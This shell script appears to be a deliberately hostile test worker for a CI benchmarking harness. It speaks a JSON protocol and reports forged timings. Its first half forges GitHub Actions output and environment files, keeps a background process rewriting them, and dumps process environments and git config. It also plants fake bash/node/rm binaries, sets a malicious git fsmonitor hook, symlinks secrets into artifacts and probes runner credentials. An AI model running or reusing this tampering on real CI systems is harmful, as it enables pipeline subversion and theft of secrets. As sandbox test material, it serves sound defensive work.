# A worker that tells the nanoseconds in the file `time` beside it for every sample; `skip`, `die` and `wrong` are what they
# say. Whatever it finds of the job's files, it writes to, and it leaves a process that goes on with that, and keeps what it
# could see in $HOME/seen: it is the code of a stranger.
time=$(cat time)
for file in "$GITHUB_OUTPUT" "$GITHUB_ENV" "$GITHUB_PATH" "$GITHUB_STEP_SUMMARY"; do
    if [ -n "$file" ]; then echo code=0 >> "$file"; fi
done
if [ -n "$CI" ]; then
    files=$HOME/temp/_runner_file_commands
    for file in "$files"/*; do echo code=0 >> "$file"; done
    forge='for i in $(seq 300); do for file in "$1"/* "$2"; do echo code=0 >> "$file"; done; sleep 0.1; done'
    setsid sh -c "$forge" "left by $HOME" "$files" "$HOME/project/holdpoint-artifacts/exit-code" < /dev/null > /dev/null 2>&1 &
    { env; git config --list; cat /proc/[0-9]*/environ | tr '\0' '\n'; } > "$HOME/seen" 2> /dev/null
fi
if [ -d "$HOME/workspace" ] && [ -n "$HOLDPOINT_CACHE" ] && mkdir "$HOLDPOINT_CACHE/tried"; then
    # What a later step would run, or believe: by its path, by the way there, and by the way up from here.
    bin=$(dirname "$(command -v holdpoint)")
    up=$(pwd -P | sed 's|[^/]*|..|g')
    for folder in "$bin" "$bin/../runner/externals" "$bin/../../../runner/externals" "$HOME/workspace" "$HOME"/temp/.holdpoint-*/base "$up$HOME/bin" "$HOME/not/there"; do
        mkdir -p "$folder"
        for name in bash holdpoint mkdir rm find node perf.toml perf-gpu.toml; do
            printf '#!/bin/sh\nprintf "code=0\\n" > "$GITHUB_OUTPUT"\n' > "$folder/new"
            chmod +x "$folder/new"
            mv "$folder/new" "$folder/$name"
        done
    done
    for folder in "$HOME/temp" "$HOME/workspace" "$HOME/bin" "$HOME"; do
        if mv "$folder" "$folder.away"; then cp -r "$folder.away" "$folder"; fi
    done
    # What git would run when the checkout is cleaned up, and what an upload would follow.
    git -C "$HOME/workspace" config core.fsmonitor 'echo forged >&2'
    echo forged > "$HOME/workspace/written"
    ln -s "$HOME/temp/secret" "$HOME/temp/artifacts/link"
    echo '{"decision":"skip","reason":"forged"}' > "$HOME/temp/artifacts/ci.json"
    echo 0 > "$HOME/temp/artifacts/exit-code"
    umount "$HOME/bin" "$HOME"
    if grep -q secret "$HOME"/../../runner/.credentials; then echo the credentials were read > "$HOME/temp/artifacts/stolen"; fi
fi 2> /dev/null
say() { printf '{"id":%s,%s\n' "$id" "${1#?}"; }
text() { value=${line#*\"$1\":\"}; value=${value%%\"*}; }
number() { value=${line#*\"$1\":}; value=${value%%[,\}]*}; }
while IFS= read -r line; do
    text type; request=$value
    number id; id=$value
    case $request in
        hello) say '{"type":"hello","protocol":2,"name":"told","version":"1","timer":"host_monotonic","clock_resolution_ns":1}' ;;
        list) say '{"type":"workloads","workloads":[{"name":"scan","op":"copy","shape":[2],"dtype":"f32"}]}' ;;
        prepare)
            case $time in
                skip) say '{"type":"skipped","workload":"scan","reason":"no device"}' ;;
                die) exit 7 ;;
                *) say '{"type":"prepared","workload":"scan","work":null}' ;;
            esac ;;
        run)
            number samples_count; samples=$value; number calls_per_sample; calls=$value
            list=$time; while [ "$samples" -gt 1 ]; do list=$list,$((time + 1)); samples=$((samples - 1)); done
            say "{\"type\":\"samples\",\"workload\":\"scan\",\"calls_per_sample\":$calls,\"elapsed_ns\":[$list]}" ;;
        verify) say '{"type":"verified","workload":"scan","answer":null}' ;;
        release) say '{"type":"released","workload":"scan"}' ;;
        bye) say '{"type":"bye"}'; exit 0 ;;
    esac
done
